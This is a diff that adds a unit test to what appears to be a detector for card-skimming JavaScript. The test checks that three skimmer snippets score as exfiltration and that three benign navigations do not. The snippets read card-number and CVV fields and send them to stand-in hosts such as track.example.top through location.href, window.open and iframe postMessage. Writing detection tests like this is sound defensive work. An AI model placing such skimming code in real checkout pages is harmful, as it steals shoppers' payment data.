@@ -89,6 +89,42 @@ TEST(BehaviourJs, CardDataInAnElementsAddressOrAWebRtcChannel) {
             0);
 }
 
+// Card data carried off by navigation (location, window.open) or posted into a frame the
+// code created; a redirect to a payment provider, a share button, a chat widget: no.
+TEST(BehaviourJs, CardDataInANavigationOrAFramesMessages) {
+  EXPECT_GE(Strongest(Js("document.querySelector('#place-order').onclick = function () {"
+                         " var c = document.getElementById('cc_number').value;"
+                         " location.href = 'https://track.example.top/r?u=' + btoa(c); };"),
+                      "exfil"),
+            3);
+  EXPECT_GE(Strongest(Js("jQuery(document).on('submit', '#co-payment-form', function () {"
+                         " window.open('https://survey.example.top/t?d=' + "
+                         "btoa(jQuery(this).serialize()), '_blank'); });"),
+                      "exfil"),
+            3);
+  EXPECT_GE(Strongest(Js("var fr = document.createElement('iframe'); fr.src = "
+                         "'https://widget.example.top/f.html'; document.body.appendChild(fr);"
+                         " document.addEventListener('change', function (e) {"
+                         " if (/cc_|cvv/.test(e.target.name)) fr.contentWindow.postMessage("
+                         "e.target.value, '*'); });"),
+                      "exfil"),
+            3);
+  EXPECT_EQ(Strongest(Js("var card = document.getElementById('cc_number');"
+                         " location.href = 'https://www.paypal.com/checkoutnow?token=' + "
+                         "encodeURIComponent(token.value);"),
+                      "exfil"),
+            0);
+  EXPECT_EQ(Strongest(Js("window.open('https://share.example.net/intent?text=' + "
+                         "encodeURIComponent(document.title), '_blank');"),
+                      "exfil"),
+            0);
+  EXPECT_EQ(Strongest(Js("var fr = document.createElement('iframe'); fr.src = "
+                         "'https://chat.example.net/w.html'; fr.contentWindow.postMessage("
+                         "{page: location.pathname}, 'https://chat.example.net');"),
+                      "exfil"),
+            0);
+}
+
 TEST(BehaviourJs, CardFieldsSentAwayIsAnExfilTrait) {
   auto t =
       Js("document.querySelector('#cc_number').addEventListener('change',function(){"
